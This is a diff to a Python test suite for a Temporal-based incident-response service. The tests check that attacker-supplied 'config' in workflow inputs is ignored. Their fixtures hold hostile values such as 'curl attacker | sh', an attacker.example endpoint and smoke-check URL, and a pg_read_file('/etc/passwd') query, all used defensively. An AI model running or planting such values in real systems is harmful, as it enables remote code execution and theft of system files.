@@ -15,8 +15,8 @@ from domain.incident import CommanderAssignment, Decision, Escalation, Note, Res
 from domain.severity import Severity
 from starters import service
 from tests.fakes import World
-from tests.workflow_helpers import events, incident, proposed, start, terminate, until, worker_for
-from worker.identity import IdentityInterceptor, acting_as
+from tests.workflow_helpers import events, incident, proposed, skip, start, terminate, until, worker_for
+from worker.identity import IdentityInterceptor, acting_as, proof_payload
 from worker.temporal import data_converter
 from workflows.incident_response import IncidentResponseWorkflow
 
@@ -32,6 +32,10 @@ class _Recorder(tclient.Interceptor):
         rec = self
 
         class _Out(tclient.OutboundInterceptor):
+            async def start_workflow(self, input: tclient.StartWorkflowInput) -> Any:
+                input.headers = {**input.headers, **rec.inject}
+                return await super().start_workflow(input)
+
             async def signal_workflow(self, input: tclient.SignalWorkflowInput) -> None:
                 input.headers = {**input.headers, **rec.inject}
                 await super().signal_workflow(input)
@@ -47,6 +51,19 @@ async def _raw(env, *interceptors) -> Client:
     """Temporal's own client with CodeBlue's converter and no operator key."""
     return await Client.connect(env.client.service_client.config.target_host, namespace=env.client.namespace,
                                 data_converter=data_converter(), interceptors=list(interceptors))
+
+
+async def _start_with_config(env, workflow: str, inp: Any, wid: str, tq: str, config: dict) -> Any:
+    """A properly signed start whose payload also carries `config`, as an insider with a valid
+    proof and raw Temporal access would send it (the proof covers the model, which excludes it)."""
+    import time
+
+    proof = keyring_from_env().sign(wid, f"start:{workflow}", [inp], Principal(name=inp.requested_by, roles=["commander"]),
+                                    time.time())
+    rec = _Recorder()
+    rec.inject = {HEADER: proof_payload(proof)}
+    raw = await _raw(env, rec)
+    return await raw.start_workflow(workflow, {**inp.model_dump(mode="json"), "config": config}, id=wid, task_queue=tq)
 
 
 async def _proof_of(env, h, signal: str, arg) -> Any:
@@ -181,8 +198,9 @@ async def test_config_in_an_input_changes_no_url_contact_command_or_approver(ski
             "database": {"check_command": ["sh", "-c", "curl attacker | sh"]},
             "mitigation": {"approvers": ["mallory"]}}
     async with worker_for(skipping_env, world) as tq:
-        inp = incident().model_copy(update={"config": evil})
-        h = await start(skipping_env, world, inp, tq)
+        inp = incident()
+        h = await _start_with_config(skipping_env, "IncidentResponseWorkflow", inp, inp.incident_id, tq, evil)
+        world.handles.append(h)
         await until(h, proposed, "proposals")
         with pytest.raises(service.CodeBlueError, match="mallory is not the incident commander"):
             await service.decide(skipping_env.client, h.id, Decision(action_id="db-check", approve=True, by="mallory"))
@@ -227,3 +245,47 @@ async def test_activities_refuse_targets_the_workers_config_does_not_name():
         with pytest.raises(ApplicationError) as e:
             await call
         assert e.value.type == "TargetNotConfigured" and e.value.non_retryable and "not in the worker's config" in str(e.value)
+
+
+async def test_a_post_incident_input_config_changes_no_smoke_check(skipping_env):
+    from domain.config import SmokeCheck
+    from domain.postincident import PostIncidentInput, postmortem_workflow_id
+    from tests.fakes import configure_worker
+    from tests.postincident_fixtures import config, post_worker, resolved_report
+    from tests.test_post_incident import _ready, healthy
+    from workflows.post_incident import PostIncidentWorkflow
+
+    pw, rep = healthy(), resolved_report()
+    configure_worker(rep.incident_id, config(smoke_checks=[SmokeCheck(name="login", url="http://worker.example/login")]))
+    evil = {"postincident": {"smoke_checks": [{"name": "steal", "url": "http://attacker.example/x"}]},
+            "contacts": {"on_call": "+1-666"}}
+    async with post_worker(skipping_env, pw) as tq:
+        h = await _start_with_config(skipping_env, "PostIncidentWorkflow",
+                                     PostIncidentInput(incident_id=rep.incident_id, report=rep, requested_by="alice"),
+                                     postmortem_workflow_id(rep.incident_id), tq, evil)
+        pw.world.handles.append(h)
+        await _ready(skipping_env, h)
+    assert [(s.name, s.url) for s in pw.smoke_calls] == [("login", "http://worker.example/login")]
+    assert all(p.contact != "+1-666" for p in pw.world.pages)
+
+
+async def test_a_restore_input_config_changes_no_endpoint_or_query(skipping_env):
+    from tests.db_fakes import DbWorld
+    from tests.db_helpers import proposed as restore_proposed
+    from tests.db_helpers import restore_config, restore_input, restore_worker, until as restore_until
+
+    env, db = skipping_env, DbWorld()
+    async with restore_worker(env, db.activities(), db.handles) as tq:
+        inp = restore_input(config=restore_config())
+        h = await _start_with_config(env, "DatabaseRestoreWorkflow", inp, f"{inp.incident_id}-db-restore", tq, {
+            "restore": {"endpoint_override": "attacker.example:5432", "sanity_query": "SELECT pg_read_file('/etc/passwd')"},
+            "aws": {"rds_instance": "someone-elses-db"}})
+        db.handles.append(h)
+        rep = await restore_until(h, restore_proposed("restore"), "gate 1")
+        assert "someone-elses-db" not in rep.actions[0].reason
+        await service.decide(env.client, h.id, Decision(action_id="restore", approve=True, by="alice"))
+        await skip(env, 26)  # the scripted restore takes 25 minutes of the server's clock
+        rep = await restore_until(h, restore_proposed("cutover"), "gate 2")
+        await terminate(h)
+    assert db.verify_requests and all(r.sanity_query != "SELECT pg_read_file('/etc/passwd')" and r.host != "attacker.example"
+                                      for r in db.verify_requests)
